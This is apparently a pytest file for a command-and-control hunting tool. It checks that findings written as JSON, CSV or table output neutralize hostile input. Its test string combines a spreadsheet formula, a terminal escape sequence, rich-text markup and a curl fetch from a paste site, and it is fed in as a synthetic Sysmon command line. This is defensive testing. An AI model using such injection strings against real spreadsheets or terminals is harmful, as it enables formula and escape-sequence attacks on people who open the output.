from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from c2hunt.detect.testing import hunt_rows, sysmon
from c2hunt.report import write_findings
from c2hunt.score import FINDING_COLUMNS, SPEC_FIELDS, Finding

EVIL = '=HYPERLINK("x")\x1b]0;pwned\x07 curl https://pastebin.com/raw/a [red]x[/red]'


def findings(profile: str = "precise") -> list[Finding]:
    rows: list[dict[str, Any]] = [
        sysmon(1, ProcessGuid="{P}", ProcessId=4, Image=r"C:\x\curl.exe", CommandLine=EVIL),
        sysmon(
            3,
            ProcessGuid="{P}",
            ProcessId=4,
            Image=r"C:\x\curl.exe",
            DestinationIp="10.1.1.1",
            DestinationPort=443,
            DestinationHostname="pastebin.com",
        ),
    ]
    return hunt_rows(rows, profile)


def render(fmt: str, profile: str = "precise") -> str:
    out = io.StringIO()
    write_findings(findings(profile), fmt, profile, out)
    return out.getvalue()


def test_jsonl_carries_the_spec_fields_then_the_evidence() -> None:
    (line,) = render("jsonl").splitlines()
    row = json.loads(line)
    assert tuple(row) == FINDING_COLUMNS
    assert row["CommandLine"] == EVIL
    assert "\x1b" not in line
    assert [e["kind"] for e in row["evidence"]][:3] == ["connection", "destination", "lineage"]


def test_spec_profile_writes_only_the_14_fields() -> None:
    (row,) = json.loads(render("json", "spec"))
    assert tuple(row) == SPEC_FIELDS


def test_csv_neutralizes_formulas_and_controls() -> None:
    text = render("csv")
    header, row = list(csv.reader(io.StringIO(text)))
    assert tuple(header) == FINDING_COLUMNS
    command = row[header.index("CommandLine")]
    assert command.startswith("'=HYPERLINK")
    assert "\x1b" not in text and "\\x1b]0;pwned\\x07" in command


def test_table_shows_no_control_sequence_and_no_markup() -> None:
    text = render("table")
    assert "\x1b" not in text
    assert "[red]x[/red]" in text
    assert "pastebin.com" in text and "medium" in text


def test_unknown_format_is_an_error() -> None:
    from c2hunt.errors import C2HuntError

    with pytest.raises(C2HuntError, match="unknown format 'xml'"):
        write_findings([], "xml", "precise", io.StringIO())
